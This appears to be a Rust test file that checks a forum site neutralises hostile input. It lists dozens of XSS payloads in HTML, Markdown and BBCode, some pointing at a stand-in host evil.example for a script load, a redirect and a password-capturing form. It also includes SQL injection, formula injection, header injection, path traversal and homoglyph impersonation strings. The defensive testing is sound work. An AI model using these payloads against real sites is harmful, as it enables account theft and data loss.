//! Words that try to be something else: code, other people's names, questions to the database.

use super::{assert_harmless, counts, host_of, thread};
use crate::both;
use crate::world::{Answer, encoded, on_site};

/// Texts that try to become code: HTML, Markdown, BBCode and addresses.
const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>",
    "<button formaction=javascript:alert(1)>",
    "<style>*{x:expression(alert(1))}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n[x]",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.example/x)",
    "![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=\"alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "[a](https://a.example \"x\" onclick=alert(1))",
    "[url=javascript:alert(1)]x[/url]",
    "[img]x\" onerror=\"alert(1)[/img]",
    "[quote=\"\"><script>alert(1)</script>\" post=1]x[/quote]",
    "[quote=\"a\" post=1\" onclick=alert(1)]x[/quote]",
    "[spoiler=\"<img src=x onerror=alert(1)>\"]x[/spoiler]",
    "||<script>alert(1)</script>||",
    "```html\"onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|",
    "@<script>alert(1)</script>",
    ":\"><script>alert(1)</script>:",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
];

fn text_of(answer: &Answer) -> String {
    let page = scraper::Html::parse_document(&answer.body);
    let field = scraper::Selector::parse("textarea[name=body]").expect("a selector");
    page.select(&field).next().map(|field| field.text().collect()).unwrap_or_default()
}

both! {
    fn no_words_become_code(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            let id = thread(&world, &mirelle).await;
            for (at, words) in SCRIPTS.iter().enumerate() {
                let preview = mirelle.post("/preview", &[("body", words)]).await.is(200);
                assert_harmless(&preview, words);
                let key = format!("key{at}");
                let posted = mirelle.post(&format!("/threads/{id}/posts"), &[("body", words), ("key", &key)]).await.is(303);
                assert_eq!(host_of(&posted.location), "127.0.0.1");
                // A refused form gives the words back as words, in every field.
                let fields = [("title", *words), ("body", ""), ("tags", *words), ("key", *words), ("label", *words)];
                let refused = mirelle.post("/boards/android/threads", &fields).await.is(422);
                assert_harmless(&refused, words);
                let about = [("display_name", *words), ("pronouns", *words), ("about", *words), ("theme", *words), ("density", "x"), ("zone", *words)];
                assert_harmless(&mirelle.post("/settings", &about).await.is(422), words);
                let search = format!("/search?{}", encoded(&[("q", words)]));
                assert_harmless(&mirelle.get(&search).await.is(200), words);
            }
            // The names alone: every try at a password costs a hash.
            for words in SCRIPTS.iter().step_by(8) {
                let door = world.guest().post("/login", &[("who", words), ("password", words), ("next", words)]).await.is(422);
                assert_harmless(&door, words);
            }
            for (at, words) in SCRIPTS.iter().enumerate().filter(|(_, words)| !words.contains('\n') && words.chars().count() <= 150) {
                let key = format!("title{at}");
                let fields = [("title", *words), ("body", *words), ("tags", "a,<b>,\"c"), ("key", &key)];
                let posted = mirelle.post("/boards/android/threads", &fields).await.is(303);
                assert_eq!(host_of(&posted.location), "127.0.0.1");
                assert_harmless(&mirelle.get(&posted.location).await.is(200), words);
            }
            let all = SCRIPTS.iter().take(30).copied().collect::<Vec<_>>().join("\n\n");
            let about = [("display_name", "<b onclick=alert(1)>"), ("about", &all), ("theme", "auto"), ("density", "compact"), ("zone", "UTC")];
            mirelle.post("/settings", &about).await.is(303);
            world.work_off().await;
            let whole = world.guest().get(&format!("/threads/{id}")).await.is(308).location;
            for page in [&whole, &format!("{whole}?page=2"), &format!("{whole}?page=3"), "/", "/boards/android", "/members/mirelle", "/members", "/search?q=script", "/search?q=alert", "/areas/help"] {
                assert_harmless(&world.guest().get(page).await.is(200), page);
                assert_harmless(&mirelle.get(page).await.is(200), page);
            }
        });
    }

    fn strange_words_come_back_as_they_were(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            let id = thread(&world, &mirelle).await;
            let strange = [
                "Robert'); DROP TABLE posts;--", "1' OR '1'='1", "100% _sure_ \\ \\\\ %s %d {0}", "null undefined NaN nil None", "-1", "0", "=cmd|' /C calc'!A0",
                "𝕿𝖍𝖊 quick ﷽ brown 👩‍👩‍👧‍👦 fox", "ﷺ مرحبا שלום", "¯\\_(ツ)_/¯", "田中さんにあげて下さい", "Ω≈ç√∫˜µ≤≥÷", "\u{200f}test\u{200f}", "<\t>\ttabs\tin\tit", "a\n\n\n\nb", "&amp;&lt;&gt;&quot;&#39;",
            ];
            for (at, words) in strange.iter().enumerate() {
                let key = format!("strange{at}");
                mirelle.post(&format!("/threads/{id}/posts"), &[("body", words), ("key", &key)]).await.is(303);
                let edit = mirelle.get(&format!("/posts/{}/edit", world.last_post(id))).await.is(200);
                assert_eq!(text_of(&edit), *words);
            }
            let zalgo = format!("Z{}algo", "\u{0351}".repeat(500));
            for words in [zalgo.as_str(), "\u{202e}\u{202e}desrever", "a\u{0}b", "\u{b}\u{c}", "\u{1b}[31mred"] {
                let answer = mirelle.post(&format!("/threads/{id}/posts"), &[("body", words), ("key", "control")]).await;
                assert!(matches!(answer.status, 303 | 400 | 422), "{words:?}: {}", answer.status);
            }
        });
    }

    fn names_that_deceive_are_refused_with_the_words_kept(db) {
        on_site(db, async |world| {
            let guest = world.guest();
            let before = counts(&world);
            let long = "a".repeat(300);
            let names = [
                "ad\u{202e}min", "a\u{200b}nn", "ann\u{2066}", "z\u{0351}\u{0352}\u{0353}\u{0354}algo", "\u{0430}dmin", "admin", "ADMIN", "Administrator", "moderator", "Tempo", "tempo-staff", "T\u{0435}mpo",
                "mirelle", "MIRELLE", "m\u{0456}relle", "mirel\u{217c}e", "ｍｉｒｅｌｌｅ", "", "  ", "a", "<script>", "../../etc", "a/b", "a\\b", "ann lee", "ann\r\nBcc: x@y.example", "ann\nlee", "me@example.org", "\u{1f600}\u{1f600}", "null", long.as_str(), "...", "-ann-",
            ];
            for name in names {
                let form = [("username", name), ("email", "deceiver@example.org"), ("password", "teal-harmonium-garden-61")];
                let answer = guest.post("/register", &form).await.is(422);
                assert!(answer.words().contains("to put right"), "{name:?}: {}", answer.words());
                assert_eq!(answer.field("email").as_deref(), Some("deceiver@example.org"), "{name:?}");
                assert!(!answer.body.contains("teal-harmonium"));
                assert_harmless(&answer, name);
            }
            let mirelle = world.member("mirelle").await;
            for name in ["Ravi_M", "R\u{0430}vi_M", "Moderator", "Tempo Star", "\u{202e}", "a\u{0}"] {
                let about = [("display_name", name), ("about", ""), ("theme", "auto"), ("density", "compact"), ("zone", "UTC")];
                let answer = mirelle.post("/settings", &about).await;
                assert!(matches!(answer.status, 422 | 400), "{name:?}: {}", answer.status);
            }
            assert_eq!(counts(&world), before);
        });
    }

    fn searching_for_syntax_finds_words(db) {
        on_site(db, async |world| {
            let guest = world.guest();
            let many = "shuffle ".repeat(2_000);
            let brackets = "(".repeat(500);
            for q in [
                "'", "''", "\"", "\"\"", "\"shuffle", "shuffle\"", "`", "\\", "\\'", "%", "_", "*", "shuffle*", "*shuffle", "^shuffle", "-shuffle", "--", "- -", "+", "NEAR(", "NEAR(a b, 5)", "AND", "OR", "NOT", "a AND", "AND b", "a OR OR b", "title:shuffle", "body:", "rowid:1", "col:", "(", ")", "()", ")(", "((a)", "{a b}", "a:*", "a & b", "a | b", "!a", "a <-> b", "a <2> b", "<->", ":*", "::", ":",
                "' OR 1=1 --", "'; DROP TABLE users;--", "1 UNION SELECT password_hash FROM users", "$1", "?1", ":name", "@name", "board:", "board:nowhere", "author:'", "author:%", "tag:\"", "before:x", "after:9999-99-99", "before:-1", "is:", "is:nothing", "label:\u{202e}", "\u{200b}", "\u{1f3b5}", "あ", "音楽 *", "a\tb", "a\u{a0}b", "\u{feff}", "\u{10ffff}", many.as_str(), brackets.as_str(),
            ] {
                for rest in ["", "&sort=newest", "&type=members"] {
                    let path = format!("/search?{}{rest}", encoded(&[("q", q)]));
                    let answer = guest.get(&path).await;
                    assert_eq!(answer.status, 200, "{:?}{rest}", q.chars().take(60).collect::<String>());
                }
            }
            for filter in ["label", "tag", "status", "sort", "after", "tab", "answered"] {
                for value in ["'", "1' OR '1'='1", "\"", "%", "\\", "-1", "1.1", "9223372036854775808.1", "a.b", ".", "\u{202e}", "<script>"] {
                    for path in ["/boards/android", "/members", "/areas/help", "/"] {
                        let path = format!("{path}?{}", encoded(&[(filter, value)]));
                        let answer = guest.get(&path).await;
                        assert!(answer.status < 500, "{path}: {}", answer.status);
                        assert_harmless(&answer, &path);
                    }
                }
            }
        });
    }
}
